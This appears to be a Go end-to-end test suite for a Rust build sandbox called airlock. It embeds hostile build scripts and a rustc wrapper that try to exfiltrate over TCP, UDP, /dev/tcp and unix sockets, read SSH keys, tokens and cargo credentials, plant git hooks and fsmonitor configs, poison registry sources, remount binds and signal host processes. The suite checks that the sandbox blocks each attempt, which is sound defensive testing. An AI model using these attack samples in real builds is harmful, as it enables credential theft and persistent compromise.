package e2e

import (
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"
	"unsafe"

	"airlock/internal/testregistry"
)

// hostileBuildRS attempts every item of the threat model from a build
// script and writes what happened to OUT_DIR/report.txt, one "name=outcome"
// line each; the crate embeds the report so the built program prints it.
const hostileBuildRS = `use std::fs;
use std::io::Write;
use std::path::Path;
use std::time::Duration;

fn outcome<T, E: std::fmt::Display>(r: Result<T, E>) -> String {
    match r {
        Ok(_) => "SUCCEEDED".to_string(),
        Err(e) => format!("failed: {}", e).replace('\n', " "),
    }
}

fn main() {
    let mut report = String::new();
    let mut rec = |k: &str, v: String| report.push_str(&format!("{}={}\n", k, v));

    // 1. Exfiltration: TCP, UDP, unix sockets (path and abstract).
    rec("tcp", outcome(std::net::TcpStream::connect_timeout(&"@REGISTRY@".parse().unwrap(), Duration::from_secs(3))
        .and_then(|mut s| s.write_all(b"GET /attack/tcp HTTP/1.0\r\n\r\n"))));
    let _ = std::net::UdpSocket::bind("127.0.0.1:0").and_then(|s| s.send_to(b"attack", "@UDP@"));
    rec("unix_path", outcome(std::os::unix::net::UnixStream::connect("@HOME@/agent.sock")));
    {
        use std::os::linux::net::SocketAddrExt;
        rec("unix_abstract", outcome(std::os::unix::net::SocketAddr::from_abstract_name(b"@ABSTRACT@")
            .and_then(|a| std::os::unix::net::UnixStream::connect_addr(&a))));
    }

    // 3. Secrets: environment, home, credentials, a symlink out of the workspace.
    for v in ["GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "CARGO_REGISTRY_TOKEN", "SSH_AUTH_SOCK", "CARGO_HTTP_PROXY"] {
        rec(&format!("env_{}", v), outcome(std::env::var(v)));
    }
    rec("read_ssh_key", outcome(fs::read_to_string("@HOME@/.ssh/id_ed25519")));
    rec("read_credentials", outcome(fs::read_to_string("@CARGO_HOME@/credentials.toml")));
    rec("read_via_symlink", outcome(fs::read_to_string("@WS@/leak")));

    // 4. Persistence.
    rec("write_source", outcome(fs::OpenOptions::new().append(true).open("@WS@/src/main.rs")
        .and_then(|mut f| f.write_all(b"// pwned\n"))));
    rec("write_git_hook", outcome(fs::write("@WS@/.git/hooks/pre-commit", "#!/bin/sh\necho pwned\n")));
    rec("write_cargo_config", outcome(fs::write("@CARGO_HOME@/config.toml", "[build]\nrustc-wrapper = \"/tmp/evil\"\n")));
    rec("write_cargo_bin", outcome(fs::write("@CARGO_HOME@/bin/cargo-evil", "#!/bin/sh\n")));
    let mut victim = Err("victim sources not found".to_string());
    if let Ok(dirs) = fs::read_dir("@CARGO_HOME@/registry/src") {
        for d in dirs.flatten() {
            let p = d.path().join("victim-1.0.0/src/lib.rs");
            if p.exists() {
                victim = fs::write(&p, "pub fn poisoned() {}").map_err(|e| e.to_string());
            }
        }
    }
    rec("write_registry_src", outcome(victim));
    let rustc = std::env::var("RUSTC").unwrap();
    let tc_bin = Path::new(&rustc).parent().unwrap().to_path_buf();
    rec("write_toolchain", outcome(fs::write(tc_bin.join("evil"), "x")));
    // Undo the read-only binds: remount writable, directly and from a nested
    // user namespace, then write.
    let src = "@CARGO_HOME@/registry";
    extern "C" {
        fn mount(src: *const i8, target: *const i8, fstype: *const i8, flags: u64, data: *const u8) -> i32;
    }
    let target = std::ffi::CString::new(src).unwrap();
    const MS_REMOUNT_BIND: u64 = 32 | 4096;
    let rc = unsafe { mount(std::ptr::null(), target.as_ptr(), std::ptr::null(), MS_REMOUNT_BIND, std::ptr::null()) };
    rec("remount_rw", if rc == 0 {
        format!("SUCCEEDED (then write: {})", outcome(fs::write(format!("{}/pwned", src), "x")))
    } else {
        format!("failed: {}", std::io::Error::last_os_error())
    });
    let nested = std::process::Command::new("unshare").args(["-rm", "sh", "-c", &format!("mount -o remount,bind,rw {} && touch {}/pwned", src, src)])
        .stderr(std::process::Stdio::null()).status();
    rec("nested_userns", match nested { Ok(s) if s.success() => "SUCCEEDED".into(), other => format!("failed: {:?}", other) });
    let caps = fs::read_to_string("/proc/self/status").unwrap_or_default();
    let eff = caps.lines().find(|l| l.starts_with("CapEff:")).unwrap_or("CapEff: ?").to_string();
    rec("capabilities", if eff.ends_with("0000000000000000") { format!("failed: {}", eff) } else { format!("SUCCEEDED: {}", eff) });
    rec("write_lockfile", outcome(fs::OpenOptions::new().append(true).open("@WS@/Cargo.lock")
        .and_then(|mut f| f.write_all(b"# pwned\n"))));
    let _ = fs::write("@HOME@/.bashrc", "pwned");

    // 5. Host processes and the terminal.
    rec("see_host_pid", if Path::new("/proc/@TESTPID@/cmdline").exists() { "SUCCEEDED".into() } else { "failed: not visible".into() });
    rec("signal_host", match std::process::Command::new("kill").arg("-0").arg("@TESTPID@")
        .stderr(std::process::Stdio::null()).status() {
        Ok(s) if s.success() => "SUCCEEDED".into(),
        other => format!("failed: {:?}", other),
    });
    rec("open_tty", outcome(fs::OpenOptions::new().read(true).write(true).open("/dev/tty")));
    rec("hostname", fs::read_to_string("/proc/sys/kernel/hostname").unwrap_or_default().trim().to_string());

    let out = std::env::var("OUT_DIR").unwrap();
    fs::write(format!("{}/report.txt", out), report).unwrap();
}
`

// wrapperSh is a rustc wrapper, set by the project's .cargo/config.toml,
// that tries to reach the registry server and then runs rustc.
const wrapperSh = `#!/bin/sh
bash -c 'exec 3<>/dev/tcp/@HOST@/@PORT@ && printf "GET /attack/rustc-wrapper HTTP/1.0\r\n\r\n" >&3' 2>/dev/null
exec "$@"
`

// listeners count connections made to host-side endpoints a sandbox must
// not reach.
type listeners struct {
	unixPath, abstract string
	udpAddr            string
	hits               atomic.Int64
	closers            []func()
}

func startListeners(t *testing.T, home string) *listeners {
	t.Helper()
	l := &listeners{unixPath: filepath.Join(home, "agent.sock"),
		abstract: fmt.Sprintf("airlock-test-%d", time.Now().UnixNano())}
	for _, addr := range []string{l.unixPath, "@" + l.abstract} {
		ln, err := net.Listen("unix", addr)
		if err != nil {
			t.Fatal(err)
		}
		l.closers = append(l.closers, func() { ln.Close() })
		go func() {
			for {
				c, err := ln.Accept()
				if err != nil {
					return
				}
				l.hits.Add(1)
				c.Close()
			}
		}()
	}
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	l.udpAddr = pc.LocalAddr().String()
	l.closers = append(l.closers, func() { pc.Close() })
	go func() {
		buf := make([]byte, 64)
		for {
			if _, _, err := pc.ReadFrom(buf); err != nil {
				return
			}
			l.hits.Add(1)
		}
	}()
	t.Cleanup(func() {
		for _, c := range l.closers {
			c()
		}
	})
	return l
}

// openPTY returns a pseudo-terminal pair, so airlock can run with a
// controlling terminal that the sandbox must not reach.
func openPTY() (master, slave *os.File, err error) {
	master, err = os.OpenFile("/dev/ptmx", os.O_RDWR|syscall.O_NOCTTY, 0)
	if err != nil {
		return nil, nil, err
	}
	var unlock int32
	if _, _, e := syscall.Syscall(syscall.SYS_IOCTL, master.Fd(), syscall.TIOCSPTLCK, uintptr(unsafe.Pointer(&unlock))); e != 0 {
		master.Close()
		return nil, nil, e
	}
	var n uint32
	if _, _, e := syscall.Syscall(syscall.SYS_IOCTL, master.Fd(), syscall.TIOCGPTN, uintptr(unsafe.Pointer(&n))); e != 0 {
		master.Close()
		return nil, nil, e
	}
	slave, err = os.OpenFile(fmt.Sprintf("/dev/pts/%d", n), os.O_RDWR|syscall.O_NOCTTY, 0)
	if err != nil {
		master.Close()
		return nil, nil, err
	}
	return master, slave, nil
}

func TestHostileWorkspaceGetsNothing(t *testing.T) {
	e := newEnv(t)
	lis := startListeners(t, e.home)
	e.publish(testregistry.Crate{Name: "victim", Version: "1.0.0", Files: map[string]string{
		"src/lib.rs": "pub fn honest() -> &'static str { \"honest\" }\n",
	}})

	// Secrets and state on the host that the build must not reach.
	e.write(e.home, map[string]string{".ssh/id_ed25519": "SECRET-SSH-KEY", ".bashrc": "original\n"})
	e.write(e.cargoHome, map[string]string{"credentials.toml": "[registry]\ntoken = \"SECRET-TOKEN\"\n", "bin/.keep": ""})
	userConfig, _ := os.ReadFile(filepath.Join(e.cargoHome, "config.toml"))
	e.extraEnv = append(e.extraEnv, "GITHUB_TOKEN=ghp_secret", "AWS_SECRET_ACCESS_KEY=aws_secret",
		"CARGO_REGISTRY_TOKEN=cargo_secret", "SSH_AUTH_SOCK="+lis.unixPath,
		// A proxy with a password, for downloads: the registry itself
		// serves as the proxy, so the fetch still works.
		"CARGO_HTTP_PROXY=http://alice:s3cret@"+e.reg.Addr)

	ws := filepath.Join(e.root, "hostile")
	host, port, _ := net.SplitHostPort(e.reg.Addr)
	repl := strings.NewReplacer("@REGISTRY@", e.reg.Addr, "@UDP@", lis.udpAddr, "@HOME@", e.home,
		"@ABSTRACT@", lis.abstract, "@CARGO_HOME@", e.cargoHome, "@WS@", ws,
		"@TESTPID@", fmt.Sprint(os.Getpid()), "@HOST@", host, "@PORT@", port)
	mainRS := "fn main() {\n    print!(\"{}\", evil::REPORT);\n    println!(\"victim={}\", victim::honest());\n}\n"
	e.project("hostile", map[string]string{
		"Cargo.toml": "[package]\nname = \"hostile\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n" +
			"[dependencies]\nvictim = \"1\"\nevil = { path = \"evil\" }\n",
		"src/main.rs":        mainRS,
		".git/HEAD":          "ref: refs/heads/main\n",
		".git/hooks/.keep":   "",
		".cargo/config.toml": "[build]\nrustc-wrapper = \"tools/wrapper.sh\"\n\n[env]\nINJECTED = \"1\"\n",
		"tools/wrapper.sh":   repl.Replace(wrapperSh),
		"evil/Cargo.toml":    "[package]\nname = \"evil\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
		"evil/build.rs":      repl.Replace(hostileBuildRS),
		"evil/src/lib.rs":    "pub const REPORT: &str = include_str!(concat!(env!(\"OUT_DIR\"), \"/report.txt\"));\n",
	})
	if err := os.Chmod(filepath.Join(ws, "tools/wrapper.sh"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(e.home, ".ssh/id_ed25519"), filepath.Join(ws, "leak")); err != nil {
		t.Fatal(err)
	}

	// Run airlock with a controlling terminal, as from an interactive shell.
	master, slave, ptyErr := openPTY()
	cmd := e.command(ws, "cargo", "run", "-q")
	var stdout, stderr strings.Builder
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if ptyErr == nil {
		defer master.Close()
		defer slave.Close()
		cmd.Stdin = slave
		cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true, Ctty: 0}
	} else {
		t.Logf("no pseudo-terminal here (%v): the /dev/tty check proves less", ptyErr)
	}
	err := cmd.Run()
	res := fmt.Sprintf("exit %v\n--- stdout\n%s--- stderr\n%s", err, stdout.String(), stderr.String())
	if err != nil {
		t.Fatalf("the legitimate build failed:\n%s", res)
	}

	// The fetch phase named the project configuration it did not honour.
	if !strings.Contains(stderr.String(), "not honoured") || !strings.Contains(stderr.String(), "build.rustc-wrapper") ||
		!strings.Contains(stderr.String(), "env.INJECTED") {
		t.Errorf("airlock did not say which project config it ignored while fetching:\n%s", stderr.String())
	}

	t.Logf("sandbox report:\n%s", stdout.String())
	report := map[string]string{}
	for _, line := range strings.Split(stdout.String(), "\n") {
		if k, v, ok := strings.Cut(line, "="); ok {
			report[k] = v
		}
	}
	if report["victim"] != "honest" {
		t.Fatalf("the program did not run with the honest dependency:\n%s", res)
	}
	for _, attack := range []string{"tcp", "unix_path", "unix_abstract",
		"env_GITHUB_TOKEN", "env_AWS_SECRET_ACCESS_KEY", "env_CARGO_REGISTRY_TOKEN", "env_SSH_AUTH_SOCK", "env_CARGO_HTTP_PROXY",
		"read_ssh_key", "read_credentials", "read_via_symlink",
		"write_source", "write_git_hook", "write_cargo_config", "write_cargo_bin", "write_registry_src",
		"write_toolchain", "write_lockfile", "remount_rw", "nested_userns", "capabilities", "see_host_pid", "signal_host", "open_tty"} {
		got, ok := report[attack]
		if !ok {
			t.Errorf("%s: no result in the report", attack)
			continue
		}
		if !strings.HasPrefix(got, "failed") {
			t.Errorf("%s: the attack succeeded (%s)", attack, got)
		}
	}
	if report["hostname"] != "airlock" {
		t.Errorf("hostname inside the sandbox = %q, want airlock (own UTS namespace)", report["hostname"])
	}

	// Nothing reached the host's endpoints.
	time.Sleep(200 * time.Millisecond)
	if n := lis.hits.Load(); n != 0 {
		t.Errorf("%d connections or datagrams reached host sockets", n)
	}
	if got := e.requestsMatching("/attack/"); len(got) != 0 {
		t.Errorf("project code reached the registry server: %v", got)
	}

	// Host state is unchanged.
	mustEqualFile(t, filepath.Join(ws, "src/main.rs"), mainRS)
	mustEqualFile(t, filepath.Join(e.home, ".bashrc"), "original\n")
	mustEqualFile(t, filepath.Join(e.cargoHome, "config.toml"), string(userConfig))
	for _, p := range []string{filepath.Join(ws, ".git/hooks/pre-commit"), filepath.Join(e.cargoHome, "bin/cargo-evil"),
		filepath.Join(e.cargoHome, "registry/pwned")} {
		if _, err := os.Stat(p); err == nil {
			t.Errorf("%s was created", p)
		}
	}
	victims, _ := filepath.Glob(filepath.Join(e.cargoHome, "registry/src/*/victim-1.0.0/src/lib.rs"))
	if len(victims) != 1 {
		t.Fatalf("victim sources: %v", victims)
	}
	mustEqualFile(t, victims[0], "pub fn honest() -> &'static str { \"honest\" }\n")
	lock, _ := os.ReadFile(filepath.Join(ws, "Cargo.lock"))
	if strings.Contains(string(lock), "pwned") {
		t.Error("Cargo.lock was modified by the build script")
	}
}

func mustEqualFile(t *testing.T, path, want string) {
	t.Helper()
	got, err := os.ReadFile(path)
	if err != nil {
		t.Errorf("%s: %v", path, err)
		return
	}
	if string(got) != want {
		t.Errorf("%s was modified: %q", path, got)
	}
}

func TestProjectToolchainPathIsRefused(t *testing.T) {
	e := newEnv(t)
	marker := filepath.Join(e.root, "proxy-ran")
	ws := e.project("tcpath", map[string]string{
		"Cargo.toml":          "[package]\nname = \"tcpath\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
		"src/main.rs":         "fn main() {}\n",
		"rust-toolchain.toml": "[toolchain]\npath = \"./tc\"\n",
		"tc/bin/cargo":        "#!/bin/sh\ntouch " + marker + "\n",
		"tc/bin/rustc":        "#!/bin/sh\ntouch " + marker + "\n",
	})
	for _, f := range []string{"tc/bin/cargo", "tc/bin/rustc"} {
		if err := os.Chmod(filepath.Join(ws, f), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	r := e.run(ws, "cargo", "build")
	if r.code == 0 {
		t.Fatalf("a project-path toolchain was accepted:\n%s", r)
	}
	if !strings.Contains(r.stderr, "rust-toolchain.toml") || !strings.Contains(r.stderr, "cargo +") {
		t.Errorf("the error does not name the file and the fix:\n%s", r.stderr)
	}
	if _, err := os.Stat(marker); err == nil {
		t.Fatal("the project's toolchain binary ran")
	}
	// The user's explicit choice overrides the file, as with rustup.
	r = e.run(ws, "cargo", "+stable", "build")
	if r.code != 0 {
		t.Fatalf("cargo +stable with a path toolchain file: \n%s", r)
	}
	if _, err := os.Stat(marker); err == nil {
		t.Fatal("the project's toolchain binary ran")
	}
}

func TestTargetSymlinkOutOfWorkspaceIsRefused(t *testing.T) {
	e := newEnv(t)
	outside := filepath.Join(e.home, "precious")
	e.write(outside, map[string]string{"keep.txt": "keep"})
	ws := e.project("symtarget", map[string]string{
		"Cargo.toml":  "[package]\nname = \"symtarget\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
		"src/main.rs": "fn main() {}\n",
	})
	if err := os.Symlink(outside, filepath.Join(ws, "target")); err != nil {
		t.Fatal(err)
	}
	r := e.run(ws, "cargo", "build")
	if r.code == 0 {
		t.Fatalf("a target symlink out of the workspace was made writable:\n%s", r)
	}
	if !strings.Contains(r.stderr, "outside the workspace") {
		t.Errorf("unclear error:\n%s", r.stderr)
	}
	entries, _ := os.ReadDir(outside)
	if len(entries) != 1 {
		t.Errorf("the build wrote to the symlink's target: %v", entries)
	}

	// A lock file that is a symlink or a hard link to a host file is not
	// made writable for the fetch phase.
	for i, link := range []func(string, string) error{os.Symlink, os.Link} {
		ws := e.project(fmt.Sprintf("lockattack%d", i), map[string]string{
			"Cargo.toml":  fmt.Sprintf("[package]\nname = \"lockattack%d\"\nversion = \"0.1.0\"\nedition = \"2021\"\n", i),
			"src/main.rs": "fn main() {}\n",
		})
		bashrc := filepath.Join(e.home, ".bashrc")
		e.write(e.home, map[string]string{".bashrc": "# original\n"}) // valid TOML: cargo would parse it
		if err := link(bashrc, filepath.Join(ws, "Cargo.lock")); err != nil {
			t.Fatal(err)
		}
		r := e.run(ws, "cargo", "build")
		if r.code == 0 || !strings.Contains(r.stderr, "link") {
			t.Errorf("a linked Cargo.lock was accepted:\n%s", r)
		}
		mustEqualFile(t, bashrc, "# original\n")
	}

	// The project's config cannot point the target dir outside either.
	ws2 := e.project("cfgtarget", map[string]string{
		"Cargo.toml":         "[package]\nname = \"cfgtarget\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
		"src/main.rs":        "fn main() {}\n",
		".cargo/config.toml": "[build]\ntarget-dir = \"" + outside + "\"\n",
	})
	r = e.run(ws2, "cargo", "build")
	if r.code == 0 || !strings.Contains(r.stderr, "outside the workspace") {
		t.Fatalf("project config target-dir outside the workspace was accepted:\n%s", r)
	}
	// The user may choose it.
	r = e.run(ws2, "cargo", "build", "--target-dir", filepath.Join(e.root, "user-target"))
	if r.code != 0 {
		t.Fatalf("a user-chosen target dir failed:\n%s", r)
	}
	if _, err := os.Stat(filepath.Join(e.root, "user-target", "debug", "cfgtarget")); err != nil {
		t.Errorf("the user's target dir was not used: %v", err)
	}
}

func TestSourceEditingCommandsKeepGitReadOnly(t *testing.T) {
	e := newEnv(t)
	ws := e.project("fmt", map[string]string{
		"Cargo.toml":  "[package]\nname = \"fmtme\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
		"src/main.rs": "fn main(){println!(\"hi\");}\n",
		".git/HEAD":   "ref: refs/heads/main\n",
	})
	r := e.run(ws, "cargo", "fmt")
	if r.code != 0 {
		if strings.Contains(r.stderr, "not installed") || strings.Contains(r.stderr, "rustfmt") {
			t.Skipf("rustfmt is not part of this toolchain: %s", r.stderr)
		}
		t.Fatalf("cargo fmt failed:\n%s", r)
	}
	mustEqualFile(t, filepath.Join(ws, "src/main.rs"), "fn main() {\n    println!(\"hi\");\n}\n")

	// cargo fix edits sources and runs build scripts: .git stays read-only,
	// nested repositories too, and a repository planted during the run is
	// removed (git would run its fsmonitor or hooks on the host).
	fixme := filepath.Join(e.root, "fixme")
	ws = e.project("fixme", map[string]string{
		"Cargo.toml": "[package]\nname = \"fixme\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
		"src/lib.rs": "pub fn f() -> i32 { let mut x = 1; x }\n",
		"build.rs": `fn main() {
    let r = std::fs::write("` + filepath.Join(fixme, ".git/hooks/post-checkout") + `", "#!/bin/sh\necho pwned\n");
    println!("cargo:warning=hook write: {:?}", r.is_ok());
    let r = std::fs::write("` + filepath.Join(fixme, "vendored/.git/config") + `", "[core]\nfsmonitor = /tmp/pwn\n");
    println!("cargo:warning=nested write: {:?}", r.is_ok());
    let r = std::fs::create_dir_all("` + filepath.Join(fixme, "src/.git") + `")
        .and_then(|_| std::fs::write("` + filepath.Join(fixme, "src/.git/config") + `", "[core]\nfsmonitor = /tmp/pwn\n"));
    println!("cargo:warning=planted: {:?}", r.is_ok());
    // A repository without a .git: the directory itself, for git run in it.
    let b = "` + filepath.Join(fixme, "src/sub") + `";
    let r = std::fs::create_dir_all(format!("{}/objects", b))
        .and_then(|_| std::fs::create_dir_all(format!("{}/refs", b)))
        .and_then(|_| std::fs::write(format!("{}/HEAD", b), "ref: refs/heads/main\n"))
        .and_then(|_| std::fs::write(format!("{}/config", b), "[core]\nfsmonitor = /tmp/pwn\n"));
    println!("cargo:warning=bare planted: {:?}", r.is_ok());
}
`,
		".git/hooks/.keep":     "",
		"vendored/.git/config": "[core]\n",
		"vendored/.git/HEAD":   "ref: refs/heads/main\n",
		"vendored/README":      "a nested repository\n",
	})
	r = e.run(ws, "cargo", "fix", "--allow-no-vcs", "--allow-dirty", "--lib")
	if r.code != 0 {
		t.Fatalf("cargo fix failed:\n%s", r)
	}
	mustEqualFile(t, filepath.Join(ws, "src/lib.rs"), "pub fn f() -> i32 { let x = 1; x }\n")
	if _, err := os.Stat(filepath.Join(ws, ".git/hooks/post-checkout")); err == nil {
		t.Fatal("a build script run by cargo fix wrote a git hook")
	}
	if !strings.Contains(r.stderr, "hook write: false") || !strings.Contains(r.stderr, "nested write: false") {
		t.Errorf("the build script's attempts did not run or were not blocked:\n%s", r)
	}
	mustEqualFile(t, filepath.Join(ws, "vendored/.git/config"), "[core]\n")
	if !strings.Contains(r.stderr, "planted: true") {
		t.Errorf("the build script could not even plant a repository (the test proves nothing):\n%s", r)
	}
	if fileExists(filepath.Join(ws, "src/.git")) || !strings.Contains(r.stderr, "airlock: removed "+filepath.Join(ws, "src/.git")) {
		t.Fatalf("a repository planted in the sources survived the run:\n%s", r)
	}
	if !strings.Contains(r.stderr, "bare planted: true") || fileExists(filepath.Join(ws, "src/sub/HEAD")) {
		t.Fatalf("a repository without a .git planted in the sources survived the run:\n%s", r)
	}

	// A symlinked .git would be followed on the host by its read-only bind.
	ws = e.project("linkedgit", map[string]string{
		"Cargo.toml": "[package]\nname = \"linkedgit\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
		"src/lib.rs": "",
	})
	if err := os.Symlink("../..", filepath.Join(ws, ".git")); err != nil {
		t.Fatal(err)
	}
	r = e.run(ws, "cargo", "fix", "--allow-no-vcs", "--allow-dirty", "--lib")
	if r.code == 0 || !strings.Contains(r.stderr, ".git is a symlink") {
		t.Fatalf("cargo fix next to a symlinked .git:\n%s", r)
	}
}

// TestInheritedDescriptorsStayOutside: a descriptor the caller left open (a
// shell's `exec 9>>~/.bashrc`) must not reach the sandbox, where a build
// script could write through it.
func TestInheritedDescriptorsStayOutside(t *testing.T) {
	e := newEnv(t)
	victim := filepath.Join(e.home, ".bashrc")
	e.write(e.home, map[string]string{".bashrc": "# mine\n"})
	ws := e.project("fdleak", map[string]string{
		"Cargo.toml": "[package]\nname = \"fdleak\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
		"build.rs": `use std::io::Write;
use std::os::unix::io::FromRawFd;
fn main() {
    let mut wrote = Vec::new();
    for fd in 3..256 {
        let mut f = unsafe { std::fs::File::from_raw_fd(fd) };
        if f.write_all(b"PWNED-via-inherited-fd\n").is_ok() { wrote.push(fd); }
        std::mem::forget(f);
    }
    println!("cargo:warning=wrote through fds {:?}", wrote);
}
`,
		"src/main.rs": "fn main() {}\n",
	})
	f, err := os.OpenFile(victim, os.O_WRONLY|os.O_APPEND, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	cmd := e.command(ws, "cargo", "build")
	cmd.ExtraFiles = []*os.File{nil, nil, nil, f} // fd 6: above what airlock itself passes on
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("the build failed: %v\n%s", err, out)
	}
	if got := mustRead(t, victim); got != "# mine\n" {
		t.Fatalf("a build script wrote through an inherited descriptor: %q\n%s", got, out)
	}
}

// TestProjectTargetDirCannotCoverSourcesOrGit: a project's config may move
// the target directory within the workspace, but not onto version control
// metadata or sources, which would make them writable to build scripts.
func TestProjectTargetDirCannotCoverSourcesOrGit(t *testing.T) {
	cases := []struct {
		target  string
		refused string // part of the error; "" when the build must work
	}{
		{".git", "version control metadata"},
		{".git/hooks", "version control metadata"},
		{"src", "not cargo's output"},
		{"member", "contains the package"},
		{"build/out", ""},
	}
	for _, c := range cases {
		t.Run(c.target, func(t *testing.T) {
			e := newEnv(t)
			ws := withMember(e, "tgt", map[string]string{
				".git/HEAD":          "ref: refs/heads/main\n",
				".git/hooks/.keep":   "",
				".cargo/config.toml": "[build]\ntarget-dir = \"" + c.target + "\"\n",
			})
			r := e.run(ws, "cargo", "build")
			if c.refused == "" {
				if r.code != 0 {
					t.Fatalf("a target dir inside the workspace was refused:\n%s", r)
				}
				tag := mustRead(t, filepath.Join(ws, c.target, "CACHEDIR.TAG"))
				if !strings.HasPrefix(tag, "Signature: 8a477f597d28d172789f06886806bc55") {
					t.Errorf("the new target dir has no cache directory tag: %q", tag)
				}
				return
			}
			if r.code == 0 || !strings.Contains(r.stderr, c.refused) {
				t.Fatalf("target-dir = %q: want refusal containing %q\n%s", c.target, c.refused, r)
			}
		})
	}
}

// TestProjectFilesThatBlockAreRefused: airlock reads manifests and the lock
// file on the host while planning; a FIFO or device there must give an
// error, not a hang.
func TestProjectFilesThatBlockAreRefused(t *testing.T) {
	for _, name := range []string{"Cargo.lock", "member/Cargo.toml", ".cargo/config.toml", "rust-toolchain.toml"} {
		t.Run(name, func(t *testing.T) {
			e := newEnv(t)
			ws := withMember(e, "fifo", nil)
			p := filepath.Join(ws, name)
			_ = os.MkdirAll(filepath.Dir(p), 0o755)
			_ = os.Remove(p)
			if err := syscall.Mkfifo(p, 0o644); err != nil {
				t.Skipf("mkfifo: %v", err)
			}
			start := time.Now()
			r := e.run(ws, "cargo", "build")
			if r.code == 0 || !strings.Contains(r.stderr, "not a regular file") {
				t.Fatalf("a FIFO as %s:\n%s", name, r)
			}
			if d := time.Since(start); d > 20*time.Second {
				t.Fatalf("took %v", d)
			}
		})
	}
}

// TestSubmoduleInTargetDirIsRefused: a repository whose submodule path lies
// in the target directory would let a build script plant a repository there
// whose core.fsmonitor the user's next `git status` runs.
func TestSubmoduleInTargetDirIsRefused(t *testing.T) {
	e := newEnv(t)
	sub := filepath.Join(e.root, "subrepo")
	e.write(sub, map[string]string{"README": "x\n"})
	e.git(sub, "init", "-q")
	e.git(sub, "add", ".")
	e.git(sub, "commit", "-q", "-m", "x")
	ws := e.project("withsub", map[string]string{
		"Cargo.toml":  "[package]\nname = \"withsub\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
		"src/main.rs": "fn main() {}\n",
	})
	e.git(ws, "init", "-q")
	e.git(ws, "-c", "protocol.file.allow=always", "submodule", "-q", "add", sub, "target/foo")
	r := e.run(ws, "cargo", "build")
	if r.code == 0 || !strings.Contains(r.stderr, "submodule") {
		t.Fatalf("a submodule inside the target directory was accepted:\n%s", r)
	}
	// Elsewhere, the same repository builds.
	e.mustRun(ws, "cargo", "build", "--target-dir", filepath.Join(ws, "out"))
}

// TestProjectCannotRedirectYourRegistryToken: you hold a token for your
// registry "corp"; a project's config points "corp" at its own server,
// which demands a token. The fetch must not send yours there: it downloads
// from your registry. (The offline build then follows the project's
// definition, finds nothing and fails: a project error, with no network.)
func TestProjectCannotRedirectYourRegistryToken(t *testing.T) {
	e := newEnv(t)
	e.publish(testregistry.Crate{Name: "corpdep", Version: "1.0.0", Files: map[string]string{"src/lib.rs": "pub fn corp() -> u32 { 7 }"}})
	evil := testregistry.Start()
	defer evil.Close()
	evil.RequireAuth()
	if err := evil.Publish(testregistry.Crate{Name: "corpdep", Version: "1.0.0", Files: map[string]string{"src/lib.rs": "pub fn corp() -> u32 { 666 }"}}); err != nil {
		t.Fatal(err)
	}
	cfg := mustRead(t, filepath.Join(e.cargoHome, "config.toml"))
	e.write(e.cargoHome, map[string]string{"config.toml": cfg + "\n[registry]\nglobal-credential-providers = [\"cargo:token\"]\n" +
		"\n[registries.corp]\nindex = \"" + e.reg.IndexURL() + "\"\n"})
	e.extraEnv = append(e.extraEnv, "CARGO_REGISTRIES_CORP_TOKEN=corp-secret")
	ws := e.project("redirect", map[string]string{
		"Cargo.toml":         "[package]\nname = \"redirect\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\ncorpdep = { version = \"1\", registry = \"corp\" }\n",
		"src/main.rs":        "fn main() { println!(\"{}\", corpdep::corp()); }\n",
		".cargo/config.toml": "[registries.corp]\nindex = \"" + evil.IndexURL() + "\"\n",
	})
	r := e.run(ws, "cargo", "run", "-q")
	for _, a := range evil.Authorizations() {
		if strings.Contains(a, "corp-secret") {
			t.Fatalf("your token reached the project's server:\n%s", r)
		}
	}
	if len(evil.Requests()) != 0 {
		t.Errorf("the fetch went to the project's server: %v", evil.Requests())
	}
	if len(e.requestsMatching("/dl/corpdep/1.0.0")) == 0 {
		t.Errorf("the fetch did not use your registry: %v\n%s", e.reg.Requests(), r)
	}
	if !strings.Contains(r.stderr, "registries.corp.index (your registry)") {
		t.Errorf("airlock did not say it ignored the project's registries.corp:\n%s", r)
	}
}

// withMember writes a workspace NAME: a binary package at the root with a
// library member "member", plus extra files.
func withMember(e *env, name string, extra map[string]string) string {
	files := map[string]string{
		"Cargo.toml":        "[workspace]\nmembers = [\"member\"]\n\n[package]\nname = \"" + name + "\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
		"src/main.rs":       "fn main() {}\n",
		"member/Cargo.toml": "[package]\nname = \"member\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
		"member/src/lib.rs": "",
	}
	for k, v := range extra {
		files[k] = v
	}
	return e.project(name, files)
}
